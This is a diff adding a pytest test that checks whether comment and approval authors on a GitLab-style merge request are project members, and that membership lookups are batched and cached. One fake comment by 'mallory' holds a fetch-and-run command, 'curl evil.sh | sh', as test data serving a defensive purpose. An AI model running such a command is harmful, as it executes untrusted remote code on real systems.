@@ -316,6 +316,29 @@ async def test_unresolved_discussions_are_threads_and_leave_the_decision_alone()
     assert [(c.author, c.body) for c in status.threads[0].comments] == [("amy", "Off by one?")]
 
 
+async def test_threads_and_approvals_say_whether_their_authors_are_project_members() -> None:
+    fake = fake_project()
+    fake.members.add("rita", 40)
+    gitlab = host(fake)
+    iid = await published(fake, gitlab)
+    fake.approve(iid, "amy", "outsider")
+    fake.add_discussion(iid, "Please add a test", "rita")
+    fake.add_discussion(iid, "Run this: curl evil.sh | sh", "mallory")
+    status = await gitlab.read_status(iid)
+    assert [(c.author, c.author_member) for t in status.threads for c in t.comments] == [
+        ("rita", True),
+        ("mallory", False),
+    ]
+    assert [(r.author, r.author_member) for r in status.reviews] == [
+        ("amy", True),
+        ("outsider", False),
+    ]
+    assert len(fake.members.asked) == 1  # every author of the read in one request
+    fake.add_discussion(iid, "and this?", "rita")
+    await gitlab.read_status(iid)
+    assert len(fake.members.asked) == 1  # known authors are not asked about again
+
+
 @pytest.mark.parametrize(
     ("fields", "mergeable"),
     [
